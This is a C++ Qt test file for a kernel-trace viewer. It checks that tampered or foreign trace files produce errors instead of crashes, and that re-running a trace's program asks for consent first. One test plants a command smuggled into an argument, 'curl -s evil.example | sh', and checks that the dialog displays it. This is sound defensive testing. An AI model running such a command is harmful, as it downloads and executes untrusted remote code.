// The app with traces from someone else (engine/trace/trace_trust.h): found by fuzzing, a trace whose
// contexts or passes are their own parents (or each other's) crashed the app on open, and an LLVM kernel
// with bad inline asm took it down from the Machine code panel (which compiles on its own); both are
// errors now. Stepping a kernel whose inputs the trace did not keep asks before running the trace's
// program, unless this user recorded the trace here: declined, nothing runs and the panel says how to
// run it by hand; agreed, it runs. The dialog is photographed (resources/screenshots, looked at).
#include <QCryptographicHash>
#include <QDialog>
#include <QDir>
#include <QLabel>
#include <QProcess>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtTest>

#include <sqlite3.h>

#include "app/mainwindow.h"
#include "panels/machinecodepanel.h"
#include "panels/rerunconsentdialog.h"
#include "panels/scriptpanel.h"
#include "panels/steppanel.h"
#include "runtime/device.h"
#include "screenshots.h"
#include "session/session.h"
#include "tst_session_traces.h"

using namespace loupe;
using namespace loupe::views;

namespace {

void runSql(const QString& path, const QString& sql) {
  sqlite3* db = nullptr;
  QCOMPARE(sqlite3_open(path.toUtf8().constData(), &db), SQLITE_OK);
  char* err = nullptr;
  const int rc = sqlite3_exec(db, sql.toUtf8().constData(), nullptr, nullptr, &err);
  if (rc != SQLITE_OK) qWarning() << err;
  sqlite3_free(err);
  sqlite3_close(db);
  QCOMPARE(rc, SQLITE_OK);
}

QString copyOf(const QString& from, const QString& to) {
  QFile::remove(to);
  if (!QFile::copy(from, to)) return {};
  QFile(to).setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner);
  return to;
}

int64_t matmulKernel(Session& s) {
  for (const TraceKernel& k : s.trace().kernels)
    if (k.name.rfind("r_", 0) == 0) return k.id;
  return -1;
}

} // namespace

class TestUntrustedTraces : public QObject {
  Q_OBJECT
  QTemporaryDir dir_;
  QString trace_;       // recorded in process
  QString cliTrace_;    // recorded by loupe-cli run (a program to re-run), "" without LOUPE_CLI

private Q_SLOTS:
  void initTestCase() {
    trace_ = dir_.filePath(QStringLiteral("t.loupe"));
    session_traces::recordMatmulTrace(trace_);
    const QString cli = qEnvironmentVariable("LOUPE_CLI");
    if (cli.isEmpty()) return;
    QFile prog(dir_.filePath(QStringLiteral("prog.py")));
    QVERIFY(prog.open(QIODevice::WriteOnly));
    prog.write("import numpy as np\nfrom tinygrad import Tensor\n"
               "a = Tensor(np.arange(40 * 40, dtype=np.float32).reshape(40, 40) % 7)\n"
               "print((a @ a).realize().numpy()[3, 5])\n");
    prog.close();
    cliTrace_ = dir_.filePath(QStringLiteral("prog.loupe"));
    QProcess run;
    run.setWorkingDirectory(dir_.path());
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("TRACE_INPUTS"), QStringLiteral("4096"));
    run.setProcessEnvironment(env);
    run.start(cli, {QStringLiteral("run"), QStringLiteral("prog.py"), QStringLiteral("--trace"), cliTrace_});
    QVERIFY(run.waitForFinished(180000));
    QVERIFY2(run.exitCode() == 0, run.readAllStandardError().constData());
  }

  void cyclicParentsAreAnErrorNotACrash() {
    struct Case {
      const char* name;
      const char* sql;
      const char* words;
    };
    for (Case c : {Case{"self", "UPDATE contexts SET parent_id = id", "is not an earlier context"},
                   Case{"two", "UPDATE contexts SET parent_id = 3 WHERE id = 2; UPDATE contexts SET parent_id = 2 WHERE id = 3",
                        "is not an earlier context"},
                   Case{"passes", "UPDATE passes SET parent_id = id WHERE id % 2 = 0", "is not an earlier pass"},
                   Case{"depth", "UPDATE passes SET depth = 1000000000", "out of range"}}) {
      const QString path = copyOf(trace_, dir_.filePath(QStringLiteral("cycle_%1.loupe").arg(QString::fromLatin1(c.name))));
      runSql(path, QString::fromLatin1(c.sql));
      Session s;
      QString error;
      QVERIFY(!s.openNow(path, &error));
      QVERIFY2(error.contains(QString::fromLatin1(c.words)) && error.contains(path), qPrintable(error));
      MainWindow w;
      w.openFile(path);
      QTRY_VERIFY_WITH_TIMEOUT(!w.session()->isLoading(), 30000);
      QTRY_VERIFY2_WITH_TIMEOUT(w.lastError().contains(QString::fromLatin1(c.words)), qPrintable(w.lastError()), 5000);
    }
  }

  void machineCodeOfACrashingLlvmKernelIsAnError() {
    if (!device_status("LLVM").available) QSKIP("no LLVM device in this build");
    MachineCodePanel panel;
    panel.resize(800, 400);
    QSignalSpy ready(&panel, &MachineCodePanel::listingsReady);
    const QString bad = QStringLiteral("define void @E_4(ptr noalias %data0) {\nentry:\n  call void asm sideeffect \"bogus %%%\", \"\"()\n"
                                       "  ret void\n}\n");
    panel.showSource({QStringLiteral("E_4"), QStringLiteral("LLVM"), QStringLiteral("E_4"), bad, false});
    panel.show();
    QVERIFY(ready.wait(60000));
    QVERIFY2(panel.headerText().contains(QStringLiteral("LLVM compiling E_4")), qPrintable(panel.headerText()));
    // a name that is a path is refused before any compiler sees it
    panel.showSource({QStringLiteral("x"), QStringLiteral("CPU"), QStringLiteral("../../../tmp/x"), QStringLiteral("void f() {}"), false});
    QVERIFY(ready.wait(60000));
    QVERIFY2(panel.headerText().contains(QStringLiteral("not a C identifier")), qPrintable(panel.headerText()));
  }

  // The trace of another machine: Step asks first, and declining runs nothing.
  void steppingATraceFromElsewhereAsksBeforeRunningItsProgram() {
    if (cliTrace_.isEmpty()) QSKIP("LOUPE_CLI is not set (ctest sets it)");
    const QString path = copyOf(cliTrace_, dir_.filePath(QStringLiteral("elsewhere.loupe")));
    runSql(path, QStringLiteral("UPDATE meta SET value = '00000000000000000000000000000000' WHERE key = 'machine_id'"));
    Session s;
    QVERIFY(s.openNow(path));
    StepPanel panel(&s);
    int asked = 0;
    std::optional<InputRerun> shown;
    bool agree = false;
    panel.setRerunConsent([&](const InputRerun& plan, const QString&) {
      asked++;
      shown = plan;
      return agree;
    });
    const int64_t k = matmulKernel(s);
    QVERIFY(k >= 0 && !s.reader()->has_kernel_inputs(k));
    s.selectKernel(k);
    panel.setElement(3);
    panel.step();
    QCOMPARE(asked, 1);
    QVERIFY(!panel.isCapturingInputs());
    QVERIFY(shown && !shown->trust.trusted && shown->trust.reason.find("another machine") != std::string::npos);
    QVERIFY(QString::fromStdString(shown->program_file).endsWith(QStringLiteral("prog.py")));
    QVERIFY2(panel.headerText().contains(QStringLiteral("you declined")) && panel.headerText().contains(QStringLiteral("prog.py")),
             qPrintable(panel.headerText()));
    agree = true;  // asked again, every time
    panel.step();
    QCOMPARE(asked, 2);
    QVERIFY(panel.isCapturingInputs());
    QTRY_VERIFY_WITH_TIMEOUT(!panel.isCapturingInputs(), 180000);
    QTRY_VERIFY_WITH_TIMEOUT(!panel.isStepping(), 180000);  // the stepping the captured inputs started
    QVERIFY2(panel.stepping(), qPrintable(panel.headerText()));
    // the trace this user recorded here re-runs without asking
    Session mine;
    QVERIFY(mine.openNow(cliTrace_));
    StepPanel own(&mine);
    int ownAsked = 0;
    own.setRerunConsent([&](const InputRerun&, const QString&) { return ++ownAsked, false; });
    mine.selectKernel(matmulKernel(mine));
    own.setElement(3);
    own.step();
    QCOMPARE(ownAsked, 0);
    QVERIFY(own.isCapturingInputs());
    QTRY_VERIFY_WITH_TIMEOUT(!own.isCapturingInputs(), 180000);
  }

  // A trace holding a program's text but not its path (damaged, or written by another tool) shows the
  // text: the panel read the missing path through the map's end (found by the app fuzzer under ASan).
  void aProgramWithoutItsPathIsShown() {
    if (cliTrace_.isEmpty()) QSKIP("LOUPE_CLI is not set (ctest sets it)");
    const QString path = copyOf(cliTrace_, dir_.filePath(QStringLiteral("no_path.loupe")));
    runSql(path, QStringLiteral("DELETE FROM run_info WHERE key = 'script_path';"
                                "INSERT OR REPLACE INTO run_info VALUES ('script', 'print(42)\n')"));
    Session s;
    ScriptPanel panel(&s);
    QVERIFY(s.openNow(path));
    QTRY_VERIFY(panel.script().contains(QStringLiteral("print(42)")));
    QVERIFY2(panel.statusText().contains(QStringLiteral("not run")), qPrintable(panel.statusText()));
  }

  // What the user sees for a trace crafted to run timeit's setup command: exactly that, and the
  // command to copy. Photographed for a look.
  void theConsentDialogShowsExactlyWhatWouldRun() {
    if (cliTrace_.isEmpty()) QSKIP("LOUPE_CLI is not set (ctest sets it)");
    const QString timeit = QStringLiteral("/usr/lib/python3.11/timeit.py");
    if (!QFile::exists(timeit)) QSKIP("no /usr/lib/python3.11/timeit.py here");
    const QString path = copyOf(cliTrace_, dir_.filePath(QStringLiteral("crafted.loupe")));
    QFile f(timeit);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray text = f.readAll();
    const QString sha = QString::fromLatin1(QCryptographicHash::hash(text, QCryptographicHash::Sha256).toHex());
    runSql(path, QStringLiteral("UPDATE meta SET value = '5d1c0e7a9b3f44d2a8e61f0c2b7d9e43' WHERE key = 'machine_id';"
                                "INSERT OR REPLACE INTO run_info VALUES ('script_path', '%1'), ('script_sha256', '%2'), ('CWD', '/home/alice/shared'),"
                                "('ARGS', '[\"-n\", \"1\", \"-s\", \"import os; os.system(''curl -s evil.example | sh'')\", \"pass\"]'),"
                                "('DEVICE', 'CPU'), ('BEAM', '2'), ('NOOPT', '0');"
                                "DELETE FROM run_info WHERE key = 'script'")
                           .arg(timeit, sha));
    TraceReader reader(path.toStdString());
    int64_t k = -1;
    for (const TraceKernel& kk : reader.kernels())
      if (kk.name.rfind("r_", 0) == 0 && k < 0) k = kk.id;
    const InputRerun plan = plan_input_rerun(reader, k);
    QVERIFY(!plan.trust.trusted);
    RerunConsentDialog d(plan, QStringLiteral("/usr/local/bin/loupe-cli"));
    const QString all = d.text();
    for (const char* words : {"/usr/lib/python3.11/timeit.py", "curl -s evil.example | sh", "/home/alice/shared",
                              "BEAM=2", "recorded on another machine", "matches the script the trace records"})
      QVERIFY2(all.contains(QString::fromUtf8(words)), qPrintable(all));
    QVERIFY(d.commandLine().startsWith(QStringLiteral("cd /home/alice/shared && env DEVICE=CPU")));
    QVERIFY(d.commandLine().contains(QStringLiteral("'import os; os.system('\\''curl -s evil.example | sh'\\'')'")));
    d.show();
    QVERIFY(QTest::qWaitForWindowExposed(&d));
    QTest::qWait(100);
    saveChecked(d.grab().toImage(), QStringLiteral("rerun_consent"));
    d.reject();
  }
};

QTEST_MAIN(TestUntrustedTraces)
#include "tst_untrusted_traces.moc"
